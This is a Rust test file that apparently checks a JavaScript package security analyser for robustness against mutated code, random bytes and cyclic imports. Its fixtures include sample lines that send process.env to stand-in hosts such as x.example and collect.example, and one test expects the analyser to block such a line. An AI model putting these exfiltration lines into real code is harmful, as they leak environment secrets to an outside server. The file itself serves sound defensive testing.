//! Mutated code never brings the analysis down and never makes it hang.
use crate::common::{imported, run};
use proptest::prelude::*;

const SEED: &str = "const {get:g}=require('https');class A extends B{#x=1;static{this.y=2}get z(){return `${this.#x}`}}\
async function*f(a,{b=1,...c},[d,,e]){for await(const x of a){yield* x?.y?.[b]??c}}label:for(let i=0;i<3;i++){switch(i){case 1:continue label;default:break label}}\
try{eval(atob('MSsx'))}catch{}finally{g('https://x.example/'+JSON.stringify({...process.env}),r=>r.pipe(require('fs').createWriteStream('a')))}\
var o={get p(){return o},set p(v){o=v},[Symbol.iterator]:()=>o};new Proxy(o,{get:(t,k)=>t[k]});[].concat(...[[1,2],[3]]).map(String).sort().reverse();";

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn mutated_code_is_survived(cuts in prop::collection::vec((0usize..SEED.len(), 0usize..40, "[ -~]{0,6}"), 0..6)) {
        let mut text = SEED.to_owned();
        for (at, length, with) in cuts {
            let at = at.min(text.len());
            let to = (at + length).min(text.len());
            if text.is_char_boundary(at) && text.is_char_boundary(to) {
                text.replace_range(at..to, &with);
            }
        }
        let a = imported(&text);
        prop_assert!(a.files.len() == 2);
    }

    #[test]
    fn any_bytes_are_survived(bytes in prop::collection::vec(any::<u8>(), 0..300), name in "[a-z]{1,6}\\.(js|ts|json|gyp|png|mjs)") {
        let a = run(crate::common::raw(&[("package.json", &bytes), (&name, &bytes), ("binding.gyp", &bytes), ("CLAUDE.md", &bytes)]));
        prop_assert!(a.files.len() == 4);
    }
}

#[test]
fn the_analysis_survives_a_round_through_json() {
    let a = imported(SEED);
    let text = serde_json::to_string(&a).expect("writes");
    assert_eq!(
        serde_json::from_str::<cleanbill_js::Analysis>(&text).expect("reads"),
        a
    );
}

#[test]
fn the_same_files_give_the_same_analysis() {
    assert_eq!(imported(SEED), imported(SEED));
}

#[test]
fn cyclic_reexports_end() {
    let a = run(crate::common::package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","main":"a.js"}"#,
        ),
        (
            "a.js",
            "export * from './b.js'; import x from './b.js'; fetch(x);",
        ),
        (
            "b.js",
            "export * from './a.js'; import * as y from './a.js'; export default y.z; fetch(y);",
        ),
    ]));
    assert!(a.unassessed.is_empty());
}

#[test]
fn a_method_borrowed_under_its_own_name_ends() {
    let a = imported(
        "const list=[];function Set(){}Set.prototype={length:0,push:list.push,sort:list.sort,join:[].join};\
         class More extends Set{} const one=new Set(),two=new More();one.push(1);two.push(process.env);two.sort();\
         fetch('https://collect.example/',{method:'POST',body:JSON.stringify(process.env)});",
    );
    assert!(a.unassessed.is_empty(), "{:?}", a.unassessed);
    crate::common::flagged(&a, "FLO-01", cleanbill_model::Level::Block);
}

#[test]
fn a_native_that_is_given_itself_ends() {
    for code in [
        "const c=Function.prototype.call;c.call(c,c,c);c.apply(c,[c,c]);",
        "const o={};o.map=[].map;o.forEach=o.map;o.map(o.map);o.forEach(o.forEach);",
        "const r=Reflect.apply;r(r,r,[r,r,[r,r,r]]);const b=r.bind(r,r);b(b,[b]);",
    ] {
        imported(code);
    }
}
